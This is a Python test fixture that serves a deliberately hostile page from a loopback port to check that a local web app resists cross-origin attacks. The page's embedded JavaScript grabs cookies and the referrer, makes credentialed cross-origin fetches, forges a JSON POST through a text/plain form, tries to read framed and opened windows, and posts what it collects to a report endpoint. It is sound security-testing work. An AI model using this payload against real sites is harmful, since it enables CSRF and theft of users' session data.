"""A hostile server on another port of the loopback address: it keeps all it is sent, and its page tries every door."""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = """<!doctype html>
<title>hostile</title>
<iframe name="inside"></iframe>
<form id="post" method="post" target="inside" enctype="text/plain"><input name='{"a' value='":1}'></form>
<script>
const target = "TARGET", own = location.origin, read = {};
const note = (name, text) => { read[name] = String(text).slice(0, 4000); };
const settle = (ms) => new Promise((done) => setTimeout(done, ms));
const load = (tag, url) => new Promise((done) => {
  const made = document.createElement(tag);
  made.onload = () => done("loaded");
  made.onerror = () => done("refused");
  if (tag === "link") { made.rel = "stylesheet"; made.href = url; } else made.src = url;
  document.body.append(made);
});
async function attack() {
  note("cookie", document.cookie);
  note("referrer", document.referrer);
  note("opener", window.opener === null ? "none" : "some");
  for (const path of PATHS) {
    for (const [mode, options] of Object.entries({
      cors: { credentials: "include" },
      opaque: { credentials: "include", mode: "no-cors" },
      json: { credentials: "include", method: "POST", body: "{}", headers: { "content-type": "application/json" } },
      simple: { credentials: "include", method: "POST", body: "{}", mode: "no-cors" },
      header: { credentials: "include", headers: { "x-confide-key": "guess" } },
    })) {
      try { note(`fetch ${mode} /${path}`, await (await fetch(target + path, options)).text()); }
      catch (error) { note(`fetch ${mode} /${path}`, "refused"); }
    }
    for (const tag of ["img", "script", "link"]) note(`${tag} /${path}`, await load(tag, target + path));
  }
  const events = new EventSource(target + "releases", { withCredentials: true });
  events.onmessage = (event) => note("events", event.data);
  const form = document.getElementById("post");
  form.action = target + "api/about";
  form.submit();
  const opened = window.open(target, "opened");
  await settle(300);
  for (const [name, other] of [["frame", frames[0]], ["opened", opened]]) {
    // Until something else is there, the blank page that it starts with can be read: on a busy machine that takes long.
    try { for (let wait = 0; other.location.href === "about:blank" && wait < 6000; wait++) await settle(50); } catch {}
    try { note(name, other.document.body.innerText + other.location.href); } catch (error) { note(name, "refused"); }
  }
  events.close();
  await fetch(own + "/report", { method: "POST", body: JSON.stringify(read) });
  document.title = "done";
}
attack();
</script>
"""


class Hostile(ThreadingHTTPServer):
    """`seen` is all it was sent; `reports` is what its page could read."""

    daemon_threads = True

    def __init__(self, target: str, paths: list[str]) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.seen: list[str] = []
        self.reports: list[dict[str, str]] = []
        self.page = PAGE.replace("TARGET", target).replace("PATHS", json.dumps(paths)).encode()

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}/"


class Handler(BaseHTTPRequestHandler):
    server: Hostile

    def log_message(self, *args: object) -> None:
        pass

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["content-length"])).decode()
        self.server.seen.append(f"{self.requestline}\n{self.headers}\n{body}")
        self.server.reports.append(json.loads(body))
        self.answer(b"")

    def do_GET(self) -> None:
        self.server.seen.append(f"{self.requestline}\n{self.headers}")
        if self.path.startswith("/search"):  # it is an engine, too: all its results lead to itself
            found = [
                {"title": f"Result {i}", "url": f"{self.server.address}{i}", "content": "evening"} for i in range(3)
            ]
            self.answer(json.dumps({"query": "q", "results": found}).encode(), "application/json")
        else:
            self.answer(self.server.page)

    def answer(self, body: bytes, kind: str = "text/html") -> None:
        self.send_response(200)
        self.send_header("content-type", kind)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@contextmanager
def hostile_server(target: str, paths: list[str]) -> Iterator[Hostile]:
    """Serve it from threads of this process."""
    server = Hostile(target, paths)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
